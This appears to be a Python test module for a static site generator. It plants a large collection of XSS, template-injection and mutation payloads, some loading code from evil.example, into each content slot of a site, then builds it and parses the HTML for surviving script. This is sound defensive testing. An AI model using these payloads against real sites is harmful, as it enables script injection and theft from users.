"""Texts that try to become script, the places of a site where a writer can put them, and what a
page must not hold. A place is a document with slots: one line, one payload. What a build refuses is
taken out line by line until the rest is built; the rest is then read with the parser of browsers.
"""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree

from selectolax.lexbor import LexborHTMLParser, LexborNode

from coldpress import pipeline
from coldpress.pipeline import Built
from coldpress.problems import BuildError, Problem, errors_in
from tests import sites
from tests.test_markdown_safety import TAG_PAYLOADS, URL_PAYLOADS

HANDLERS = (
    *("onanimationstart", "onauxclick", "onbeforetoggle", "onblur", "oncanplay", "onclick"),
    *("oncopy", "oncut", "ondblclick", "ondragstart", "onerror", "onfocusin", "onhashchange"),
    *("oninput", "oninvalid", "onkeydown", "onload", "onmessage", "onmouseenter", "onpageshow"),
    *("onpaste", "onpointerdown", "onpointerrawupdate", "onpopstate", "onresize", "onscroll"),
    *("onscrollend", "onscrollsnapchange", "onsearch", "onselectstart", "onstorage", "onsubmit"),
    *("ontoggle", "ontouchstart", "ontransitionend", "onunload", "onwheel", "onfocus"),
)
BREAKOUTS = (
    "</script><script>alert(1)</script>",
    "</ScRiPt ><script>alert(1)</script>",
    "</script\n><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</math><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<!--<script></script><script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "]]>]]&gt;<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "`><script>alert(1)</script>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "x onmouseover=alert(1)",
    '"/><svg/onload=alert(1)>',
    '\\"><script>alert(1)</script>',
    '\\";alert(1);//',
    '";alert(1);//',
    "';alert(1);//",
    "\\';alert(1);//",
    "${alert(1)}",
    "`;alert(1);`",
    '{"@type":"x"}</script><script>alert(1)//',
    "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)//",
    "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{ 7*7 }}<script>alert(1)</script>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# <script>alert(1)</script> #}",
    "<%= 7*7 %><script>alert(1)</script>",
    "[[constructor.constructor('alert(1)')()]]",
    "@import url(//evil.example/x.css);",
    "}</style><style>*{background:url(//evil.example)}",
    "expression(alert(1))",
    "url(javascript:alert(1))",
    "-moz-binding:url(//evil.example/x.xml)",
)
MUTATIONS = (
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'></use></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1)></animate><a>x</a></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><desc><script>alert(1)</script></desc></svg>",
    "<table><td background=javascript:alert(1)>x</td></table>",
    "<table><tr><td><form><table><img src=x onerror=alert(1)></table></form></td></tr></table>",
    "<select><template><script>alert(1)</script></template></select>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<option><style></option></select><img src=x onerror=alert(1)>",
    "<p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<a href='#' id=x name=defaultView>x</a><a id=x>y</a>",
    "<img name=getElementById src=x alt=x>",
    "<form id=document><input name=cookie></form>",
    "<a href=//evil.example ping=//evil.example/p>x</a>",
    "<a href=/x target=_top download=x.html>x</a>",
    "<img src=x alt=x lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img srcset='//evil.example/x.png 1x' src=x alt=x>",
    "<img src=//evil.example/p.png alt=x>",
    "<picture><source srcset=//evil.example/x><img alt=x></picture>",
    "<video poster=//evil.example/x><track src=//evil.example/t onload=alert(1)></video>",
    "<portal src=javascript:alert(1)></portal>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<applet code=x></applet><bgsound src=//evil.example/x>",
    "<isindex action=javascript:alert(1) type=image>",
    "<layer src=//evil.example></layer><ilayer src=x></ilayer>",
    "<xml id=x><i><![CDATA[<img src=x onerror=alert(1)>]]></i></xml>",
    "<x-y is=z onconnect=alert(1)><slot onslotchange=alert(1)></x-y>",
    "<link rel=prefetch href=//evil.example/x><link rel=modulepreload href=//evil.example/x.js>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<meta name=referrer content=unsafe-url>",
    "<script type=module>import '//evil.example/x.js'</script>",
    '<script type=importmap>{"imports":{"a":"//evil.example/x.js"}}</script>',
    '<script type=speculationrules>{"prerender":[{"urls":["//evil.example"]}]}</script>',
    "<button popovertarget=x onclick=alert(1)>x</button><div popover id=x onbeforetoggle=alert(1)>",
    "<button commandfor=x command=show-modal>x</button><dialog id=x ontoggle=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<div style=width:expression(alert(1))>x</div>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<p class='x' style=\"animation:x\" onanimationend=alert(1)>x</p>",
    '<br size="&{alert(1)}">',
    '<a href="j&#97v&#97script&#x3A;&#97lert(1)">x</a>',
    '<a href="\u0001java\tscript\n:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="jav\u0000ascript:alert(1)">x</a>',
    '<a href="data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<area href=javascript:alert(1) shape=rect coords=0,0,9,9><map name=x></map>",
    "<q cite=javascript:alert(1)>x</q><blockquote cite=javascript:alert(1)>y</blockquote>",
    "<del cite=javascript:alert(1)>x</del><ins cite='data:text/html,x'>y</ins>",
    "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>",
)
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *TAG_PAYLOADS,
            *URL_PAYLOADS,
            *BREAKOUTS,
            *MUTATIONS,
            *(f"<b {name}=alert(1) tabindex=0 contenteditable>x</b>" for name in HANDLERS),
        )
    )
)
HARMLESS = "harmless words"
SIGNED = "0123456789ab"
"""The digest of another text: gives advice, and shows the review."""


@dataclass(frozen=True)
class Slot:
    """`line` has `{}` for the payload, which is written by `quote`."""

    payload: int
    line: str
    quote: Callable[[str], str] = str
    otherwise: str | None = None
    """The line without a payload, where harmless words would not do either."""

    def text(self, payload: str) -> str:
        return self.line.replace("{}", self.quote(payload), 1)

    def without(self) -> str:
        return self.text(HARMLESS) if self.otherwise is None else self.otherwise


@dataclass
class Document:
    path: str
    parts: Sequence[str | Slot]
    refused: set[int] = field(default_factory=set)
    """Slots by place in `parts`."""

    def write(self, source: Path) -> None:
        file = source / self.path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes("\n".join(self.lines()).encode("utf-8", "surrogatepass") + b"\n")

    def lines(self) -> Iterator[str]:
        for number, part in enumerate(self.parts):
            if isinstance(part, str):
                yield part
            else:
                yield (
                    part.without() if number in self.refused else part.text(PAYLOADS[part.payload])
                )

    def at(self, line: int) -> int | None:
        """The slot that is, or begins above, a line and is not refused yet."""
        found, here = None, 1
        for number, (part, text) in enumerate(zip(self.parts, self.lines(), strict=True)):
            if here > line:
                break
            if isinstance(part, Slot) and number not in self.refused:
                found = number
            here += text.count("\n") + 1
        return found


def inside(text: str) -> str:
    """Between double quotes of YAML."""
    return json.dumps(text)[1:-1]


def flat(text: str) -> str:
    """On one line of Markdown."""
    return " ".join(text.split())


def cell(text: str) -> str:
    return flat(text).replace("|", "\\|")


def matter(number: int, *more: str | Slot) -> list[str | Slot]:
    top = f"title: Page {number}"
    words = f"description: What there is to know about number {number}, and where to ask about it."
    return ["---", top, words, *more, "---", ""]


# ------------------------------------------------------------------------------ places

Place = Callable[[Sequence[int]], list[Document]]


def page(number: int, *body: str | Slot, more: Sequence[str | Slot] = ()) -> Document:
    return Document(f"content/guides/p{number}.md", [*matter(number, *more), *body])


def in_body(numbers: Sequence[int]) -> list[Document]:
    return [
        page(n, Slot(n, "{}"), "", Slot(n, "before {} after", flat), "", Slot(n, "## On {}", flat))
        for n in numbers
    ]


def in_front_matter(numbers: Sequence[int]) -> list[Document]:
    def fields(n: int) -> list[str | Slot]:
        def slot(line: str, otherwise: str | None = None) -> Slot:
            return Slot(n, line, inside, otherwise)

        return [
            "---",
            slot(f'title: "Page {n} {{}}"'),
            slot(f'description: "What there is to know about {n}, and where to ask. {{}}"'),
            slot('label: "{}"'),
            slot('summary: "{}"'),
            slot('temperature: "{}"'),
            slot('reaches: "{}"'),
            slot('no_booking: "{}"'),
            "key_points:",
            slot('  - "{}"'),
            slot('  - "Words {}"'),
            "urgent:",
            slot('  title: "{}"'),
            "  items:",
            slot('    - "{}"'),
            "image:",
            "  src: knee.png",
            slot('  alt: "{}"'),
            "ratings:",
            slot('  - label: "{}"'),
            "    finding: one",
            "reviewed:",
            slot('  by: "{}"'),
            slot('  credential: "{}"'),
            "  on: 2026-06-01",
            "  next: 2027-06-01",
            f"  text: {SIGNED}",
            slot('slug: "{}"', ""),
            slot('expired_to: "{}"', ""),
            "aliases:",
            slot(f'  - "/old-{n}{{}}/"', f"  - /old-{n}/"),
            "related:",
            slot('  - "{}"', "  - guides/index"),
            slot('updated: "{}"', ""),
            slot('plate: "{}"', ""),
            slot('icon: "{}"', ""),
            slot('robots: "{}"', ""),
            "allow:",
            slot('  - rule: "{}"', "  - rule: cure-claim"),
            slot('    words: "{}"'),
            slot('    reason: "Somebody has looked at it {}"'),
            "    until: 2027-01-01",
            "---",
            "",
            "Words.",
            sites.SAFE,
        ]

    return [Document(f"content/methods/p{n}.md", fields(n)) for n in numbers]


def in_alt(numbers: Sequence[int]) -> list[Document]:
    return [
        page(
            n,
            Slot(n, "![{}](knee.png)", flat, "Words."),
            "",
            Slot(n, '![a knee](knee.png "{}")', flat, "Words."),
            "",
            Slot(n, '::: figure knee.png "{}"', flat, '::: tip "Words"'),
            "Words.",
            ":::",
        )
        for n in numbers
    ]


def in_links(numbers: Sequence[int]) -> list[Document]:
    lines = (
        *("[x]({})", "[{}](../pages/safety.md)", "[x](https://one.example/{})", "<{}>"),
        *('[x](../pages/safety.md "{}")', "[x][{}]", "![x]({})", "<https://one.example/{}>"),
        *("[x](mailto:{})", "[x](tel:{})", "[x](#{})", "[x](../pages/safety.md#{})"),
    )

    def all_of(n: int) -> list[str | Slot]:
        body: list[str | Slot] = []
        for line in lines:
            body += [Slot(n, line, flat, "Words."), ""]
        return [*body, "[x][one]", "", Slot(n, "[one]: {}", flat, "[one]: https://one.example/")]

    return [page(n, *all_of(n)) for n in numbers]


def in_footnotes(numbers: Sequence[int]) -> list[Document]:
    return [
        page(n, "Words[^1].", "", Slot(n, "[^1]: {}", flat), "", Slot(n, "[^{}]: x", flat, ""))
        for n in numbers
    ]


def in_tables(numbers: Sequence[int]) -> list[Document]:
    return [
        page(
            n,
            Slot(n, "| a {} | b |", cell),
            "|---|---|",
            Slot(n, "| {} | x |", cell),
            Slot(n, "| [x]({}) | x |", cell, "| x | x |"),
        )
        for n in numbers
    ]


def in_citations(numbers: Sequence[int]) -> list[Document]:
    return [
        page(
            n,
            "Words [@one2020].",
            "",
            Slot(n, "Words [@{}].", flat, "Words."),
            "",
            Slot(n, "Words [@one2020, {}].", flat, "Words."),
            "",
            Slot(n, "[{}](term:one)", flat, "Words."),
        )
        for n in numbers
    ]


def in_shortcodes(numbers: Sequence[int]) -> list[Document]:
    return [
        page(
            n,
            Slot(n, '::: tip "{}"', lambda text: flat(text).replace('"', "'")),
            Slot(n, "{}", flat),
            ":::",
            "",
            Slot(n, '::: ask "{}"', flat),
            Slot(n, "- {}", flat),
            ":::",
        )
        for n in numbers
    ]


def in_data_files(numbers: Sequence[int]) -> list[Document]:
    def slot(n: int, line: str, otherwise: str | None = None) -> Slot:
        return Slot(n, line, inside, otherwise)

    glossary: list[str | Slot] = []
    references: list[str | Slot] = []
    findings: list[str | Slot] = []
    synonyms: list[str | Slot] = []
    for n in numbers:
        glossary += [f"t{n}:", slot(n, f'  term: "Word {n} {{}}"')]
        glossary += [slot(n, '  definition: "{}"'), slot(n, '  spanish: "{}"')]
        references += [f"r{n}2020:", slot(n, '  authors: "{}"'), "  year: 2020"]
        references += [slot(n, f'  title: "Study {n} {{}}"'), slot(n, '  journal: "{}"')]
        references += [slot(n, '  volume_pages: "{}"'), slot(n, '  doi: "10.1/{}"', "  doi: null")]
        references += [slot(n, '  pmid: "{}"', "  pmid: null")]
        references += [slot(n, '  pmcid: "{}"', "  pmcid: null")]
        references += [
            slot(n, '  url: "https://one.example/{}"', "  url: https://one.example/"),
            "  study_type: rct",
        ]
        references += ["  modality: [ice]", slot(n, '  in_short: "{}"'), slot(n, '  caution: "{}"')]
        references += [slot(n, '  found: "{}"'), slot(n, '  limits: "{}"'), "  claims: {}"]
        references += [slot(n, '  verified_at: "{}"'), "  verified_level: page"]
        findings += [f"f{n}:", slot(n, '  question: "Does it help {}?"')]
        findings += [slot(n, '  outcome: "{}"'), slot(n, '  people: "{}"'), "  grade: limited"]
        findings += ["  direction: mixed", f"  references: [r{n}2020]"]
        findings += [slot(n, '  sentence: "Cold may help {}"')]
        synonyms += [f"s{n}:", slot(n, '  words: ["{}"]'), "  pages: [pages/safety]"]
    shown = [
        page(n, f"Words [@r{n}2020] and [a word](term:t{n}).", more=ratings(n)) for n in numbers
    ]
    return [
        Document("content/data/glossary.yaml", [*GLOSSARY, *glossary]),
        Document("content/data/references.yaml", [*REFERENCES, *references]),
        Document("content/data/findings.yaml", [*FINDINGS, *findings]),
        Document("content/data/synonyms.yaml", synonyms),
        *shown,
    ]


def ratings(n: int) -> list[str | Slot]:
    return ["ratings:", "  - label: Relief", f"    finding: f{n}"]


def in_site_yaml(numbers: Sequence[int]) -> list[Document]:
    """Trusted, and yet: a business may have a strange name."""

    def slot(n: int, line: str, otherwise: str | None = None) -> Slot:
        return Slot(n, line, inside, otherwise)

    return [
        Document(
            f"{n}/site.yaml",
            [
                slot(n, 'name: "House {}"'),
                slot(n, 'short_name: "{}"'),
                slot(n, 'tagline: "{}"'),
                "base_url: https://harbour.example",
                "timezone: America/Los_Angeles",
                "navigation:",
                slot(n, '  - label: "{}"'),
                "    to: pages/safety.md",
                "  - label: Out",
                slot(n, '    to: "{}"', "    to: pages/safety.md"),
                "booking:",
                slot(n, '  url: "https://booking.example/{}"', "  url: https://booking.example/"),
            ],
        )
        for n in numbers
    ]


PLACES: Mapping[str, Place] = {
    "body": in_body,
    "front matter": in_front_matter,
    "alt": in_alt,
    "links": in_links,
    "footnotes": in_footnotes,
    "tables": in_tables,
    "citations": in_citations,
    "shortcodes": in_shortcodes,
    "data files": in_data_files,
}
"""Files and site.yaml are two more: see test_safety_injection.py."""

GLOSSARY = ["one:", "  term: One", "  definition: The first."]
REFERENCES = [
    *("one2020:", "  authors: One A", "  year: 2020", "  title: One study", "  journal: One"),
    *("  volume_pages: '1'", "  doi: null", "  pmid: null", "  pmcid: null"),
    *("  url: https://one.example/one", "  study_type: rct", "  modality: [ice]"),
    *("  found: x", "  limits: x", "  claims: {}", "  verified_at: x", "  verified_level: page"),
]
FINDINGS = [
    *("one:", "  question: Does it help?", "  outcome: pain", "  grade: limited"),
    *("  direction: mixed", "  references: [one2020]", "  sentence: Cold may help."),
]


def ground(source: Path, picture: bytes) -> None:
    """What the places need around them."""
    sites.write(
        source,
        {
            **sites.SAFETY,
            "content/pages/glossary.md": sites.page("Words", "Read on.", layout="glossary"),
            "content/pages/references.md": sites.page("Sources", "Read.", layout="references"),
            "content/guides/index.md": sites.page("All guides", "Read on."),
            "content/methods/index.md": sites.page("All methods", "Read on."),
            "content/guides/knee.png": picture,
            "content/methods/knee.png": picture,
            "content/data/glossary.yaml": "\n".join(GLOSSARY) + "\n",
            "content/data/references.yaml": "\n".join(REFERENCES) + "\n",
            "content/data/findings.yaml": "\n".join(FINDINGS) + "\n",
        },
    )


def built_without_the_refused(source: Path, documents: Iterable[Document]) -> Built:
    """Every slot with an error loses its payload; a document with an error elsewhere goes whole."""
    left = {document.path: document for document in documents}
    for document in left.values():
        document.write(source)
    for _round in range(40):
        try:
            return pipeline.compose(sites.options(source))
        except BuildError as failed:
            refuse(left, errors_in(failed.problems), source)
    raise AssertionError("it never ends")


def refuse(left: dict[str, Document], problems: Iterable[Problem], source: Path) -> None:
    found: dict[str, set[int | None]] = {}
    for problem in problems:
        if problem.path not in left:
            # An address in the menu of site.yaml shows on every page.
            assert problem.rule == "broken-link", f"outside the payloads: {problem}"
            parts = left["site.yaml"].parts
            (menu,) = (
                n for n, part in enumerate(parts) if isinstance(part, Slot) and " to: " in part.line
            )
            assert menu not in left["site.yaml"].refused, problem
            found.setdefault("site.yaml", set()).add(menu)
            continue
        found.setdefault(problem.path, set()).add(left[problem.path].at(problem.line))
    only_whole = all(slots == {None} for slots in found.values())
    for path, slots in found.items():
        if slots == {None} and not only_whole:
            continue  # perhaps it only suffers from another
        document = left[path]
        open_slots = [n for n, part in enumerate(document.parts) if isinstance(part, Slot)]
        open_slots = [n for n in open_slots if n not in document.refused]
        if slots == {None} and open_slots:  # which of them, nobody says
            slots = {open_slots[-1]}
        if slots == {None}:
            assert path.endswith(".md"), path
            del left[path]
            (source / path).unlink()
        else:
            left[path].refused |= {slot for slot in slots if slot is not None}
            left[path].write(source)


# ------------------------------------------------------------------------------ what a page holds

SCHEMES = frozenset({"", "http", "https", "mailto", "tel", "sms"})
ADDRESSES = {
    *("href", "src", "action", "formaction", "poster", "data", "cite", "background", "ping"),
    *("srcset", "xlink:href", "longdesc", "manifest", "profile", "codebase", "lowsrc", "dynsrc"),
}
FETCHED = frozenset({"src", "srcset", "poster", "data", "background"})
RARE = {
    *("base", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input"),
    *("select", "textarea", "math", "portal", "foreignobject", "animate", "set", "use", "meta"),
    *("link", "template", "slot"),
}
FOREIGN_STYLE = re.compile(r"evil|alert|javascript|expression|@import|binding|harmless")
OURS = re.compile(r"0; url=/[a-z0-9/-]*/")
"""An old address leads on, within the site."""
LEADING = re.compile(r"^[\x00-\x20]+|[\t\n\r]")


def dangers(html: str) -> set[str]:
    """All that could act: to compare with a site without payloads."""
    tree = LexborHTMLParser(html)
    found: set[str] = set()
    for node in tree.css("*"):
        found.update(of_node(node))
    return found


def of_node(node: LexborNode) -> Iterator[str]:
    tag = (node.tag or "").lower()
    attributes = {name.lower(): value or "" for name, value in node.attributes.items()}
    if tag in ("script", "style"):
        yield from of_code(tag, attributes, node.text(deep=True))
    if tag in RARE:
        yield f"<{tag}> {sorted(set(attributes) - {'content', 'href', 'id', 'name', 'value'})}"
    for name, value in attributes.items():
        if name.startswith("on") or name in ("style", "srcdoc", "is", "ping"):
            yield f"{tag} {name}={value}"
        if name == "http-equiv" and not OURS.fullmatch(attributes.get("content") or ""):
            yield f"{tag} {name}={value} {attributes.get('content')}"
        if name in ADDRESSES:
            yield from of_address(tag, name, value)


def of_code(tag: str, attributes: Mapping[str, str], text: str) -> Iterator[str]:
    if attributes.get("type") == "application/ld+json":
        json.loads(text)
    elif tag == "script" or FOREIGN_STYLE.search(text):  # each page wears the styles it needs
        yield f"{tag} {sorted(attributes.items())} {hashlib.sha256(text.encode()).hexdigest()}"


def of_address(tag: str, name: str, value: str) -> Iterator[str]:
    written = LEADING.sub("", value)
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", written)
    if scheme and scheme[1].lower() not in SCHEMES:
        yield f"{tag} {name} with the scheme {scheme[1].lower()}"
    fetched = name in FETCHED or tag in ("link", "use")
    host = urlsplit(written.replace("\\", "/")).netloc if fetched else ""
    if host not in ("", "harbour.example"):
        yield f"{tag} {name} from {host}"


def parsed_strictly(output: str, content: bytes) -> None:
    """Feeds and lists must stay what they are."""
    if output.endswith((".xml", ".svg")):
        ElementTree.fromstring(content)
    if output.endswith((".json", ".webmanifest")):
        json.loads(content)


def dangers_of(made: Mapping[str, bytes]) -> dict[str, set[str]]:
    """By output."""
    found: dict[str, set[str]] = {}
    for output, content in made.items():
        parsed_strictly(output, content)
        if output.endswith(".html"):
            found[output] = dangers(content.decode())
    return found


def bytes_of(built: Built) -> dict[str, bytes]:
    return {output: one.content for output, one in built.made.items()}
